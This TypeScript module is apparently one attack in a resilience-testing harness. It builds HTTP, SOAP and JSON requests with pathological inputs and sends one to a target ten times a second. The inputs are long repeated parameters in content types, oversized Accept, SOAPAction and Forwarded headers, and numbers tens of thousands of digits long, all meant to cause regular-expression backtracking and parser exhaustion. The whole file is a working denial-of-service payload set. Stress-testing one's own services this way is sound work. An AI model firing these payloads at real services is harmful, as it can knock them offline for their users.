import type { Attack } from '../attack.ts';
import { countStatus, every, files, open, post, screening } from '../wire.ts';

/** Returns a text of repeated pairs that causes excessive backtracking in a careless expression. */
const pairs = (pair: string): string => `${pair.repeat(Math.floor(60 / pair.length))}é`;

const part = (contentType: string): string =>
  files(
    'upload',
    `<Body><file><Content>ZmlsZQ==</Content><ContentType>${contentType}</ContentType></file></Body>`,
  );

const search = screening('GetSearch', 'echo 1');

/** Small messages with such texts wherever text is parsed: parts, media types, ranges, actions, dates, numbers. */
const messages: readonly Buffer[] = [
  post('/files/soap11', part(`a/b${pairs(';x')}`)),
  post('/files/soap11', part(`a/b${pairs('; x')}`)),
  post('/files/soap11', part(`a/b;${pairs(' ;')}`)),
  post('/v2/soap11', search, `Content-Type: text/xml${';x'.repeat(400)};"\r\n`),
  post('/v2/soap11', search, `Content-Type: text/xml;${'charset="'.repeat(200)}\r\n`),
  post('/v2/json/reply/GetSearch', '{}', `Accept: ${'*/*;q=0.'.repeat(300)}\r\n`),
  post('/v2/json/reply/GetSearch', '{}', `Accept: a/b;${' '.repeat(4_000)}x\r\n`),
  post('/v2/soap11', search, `SOAPAction: ${' '.repeat(4_000)}x\r\n`),
  post(
    '/v2/soap11',
    search,
    `Forwarded: ${'host=a;'.repeat(500)}\r\nX-Forwarded-Host: ${'a.'.repeat(500)}é\r\n`,
  ),
  post('/v2/soap11', search.replace('echo 1', `${'&amp;'.repeat(2_000)}`)),
  post('/v2/json/reply/GetSearch', `{"request":{"id":${'0'.repeat(4_000)}1}}`),
  post('/v2/json/reply/GetSearch', `{"request":{"id":1.${'0'.repeat(60_000)}1e${'0'.repeat(4_000)}}}`),
];

export const pattern: Attack = {
  name: 'pattern',
  says: 'small messages whose texts backtrack where an expression is not linear, ten a second',
  run: async (target) => {
    await every(100, target, (round) => {
      countStatus(open(target), target).write(messages[round % messages.length] ?? '');
    });
    return [];
  },
};
